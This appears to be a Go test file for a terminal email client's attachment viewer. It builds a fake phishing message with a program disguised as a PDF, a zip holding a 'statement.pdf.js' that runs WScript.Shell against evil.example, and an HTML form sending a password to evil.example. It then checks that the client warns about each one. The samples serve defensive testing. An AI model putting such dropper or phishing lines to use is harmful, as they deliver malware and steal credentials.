package tui

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"errors"
	"fmt"
	"image"
	"image/color"
	"image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// withFiles gives the first message attachments: a program that looks like a document, an archive, a picture, and a mail
// with one of its own.
func withFiles(_ *Config, b *fakeBox) {
	var packed, drawn bytes.Buffer
	z := zip.NewWriter(&packed)
	for _, f := range [][2]string{{"docs/read me.txt", "hello"}, {"docs/statement.pdf.js", "new ActiveXObject('WScript.Shell').Run('https://evil.example/a')"}} {
		w, err := z.Create(f[0])
		if _, werr := w.Write([]byte(f[1])); errors.Join(err, werr) != nil {
			panic(errors.Join(err, werr))
		}
	}
	if err := z.Close(); err != nil {
		panic(err)
	}
	p := image.NewNRGBA(image.Rect(0, 0, 24, 12))
	for i := range 24 * 12 {
		p.SetNRGBA(i%24, i/24, color.NRGBA{R: uint8(10 * (i % 24)), G: uint8(20 * (i / 24)), B: 120, A: 255})
	}
	if err := png.Encode(&drawn, p); err != nil {
		panic(err)
	}
	part := func(name, kind string, data []byte) string {
		return fmt.Sprintf("--b\r\nContent-Type: %s\r\nContent-Disposition: attachment; filename=%q\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n", kind, name, base64.StdEncoding.EncodeToString(data))
	}
	b.raw = map[string][]byte{header(0).ID: []byte("Subject: Overdue\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nPay now.\r\n" +
		part("invoice.pdf", "application/pdf", []byte("MZ not a program")) + part("papers.zip", "application/zip", packed.Bytes()) + part("logo.png", "image/png", drawn.Bytes()) +
		"--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: within\r\nContent-Type: multipart/mixed; boundary=c\r\n\r\n--c\r\nContent-Type: text/html; name=page.html\r\nContent-Disposition: attachment\r\n\r\n<form action='https://evil.example/'><input type=password></form>\r\n--c--\r\n--b--\r\n")}
}

func TestAttachmentScreens(t *testing.T) {
	for _, size := range [][2]int{{80, 24}, {120, 40}} {
		for name, presses := range map[string][]string{"attachments": {"x"}, "attachments contents": {"x", "G"}} {
			t.Run(fmt.Sprintf("%s %dx%d", name, size[0], size[1]), func(t *testing.T) {
				drive(t, size[0], size[1], withFiles, func(s *screen) {
					s.wait(200 * time.Millisecond)
					s.press(presses[0])
					s.wait(200 * time.Millisecond)
					s.press(presses[1:]...)
					golden(t, s, name)
				})
			})
		}
	}
}

func TestAttachmentsAreToldAndSaved(t *testing.T) {
	dir := t.TempDir()
	drive(t, 120, 40, func(c *Config, b *fakeBox) {
		withFiles(c, b)
		c.Home, c.Downloads = dir, filepath.Join(dir, "Downloads")
	}, func(s *screen) {
		s.wait(200 * time.Millisecond)
		s.press("x")
		s.wait(200 * time.Millisecond)
		s.shows("Attachments: the report: Your parcel could not be delivered", "invoice.pdf", "It is a Windows program; its name says: PDF document.", "s saves", "y copies")
		for range 2 {
			s.press("s")
			s.until("Saved as it came")
		}
		for _, name := range []string{"invoice.pdf", "invoice (2).pdf"} {
			raw, err := os.ReadFile(filepath.Join(dir, "Downloads", name))
			if err != nil || string(raw) != "MZ not a program" {
				t.Errorf("%s: %q %v", name, raw, err)
			}
		}
		s.press("y")
		if len(s.copied) != 64 {
			t.Errorf("%q was copied, not a SHA-256", s.copied)
		}
		for _, to := range []string{"▌▸ · logo.png", "▌  ▸ Picture"} {
			for range 60 {
				if strings.Contains(s.text(), to) {
					break
				}
				s.press("j")
			}
			s.press("enter")
		}
		s.until("24 × 12 pixels")
		s.shows("▀▀▀▀")
		s.press("G")
		s.shows("page.html", "in within.eml", "It asks for a password.")
	})
}
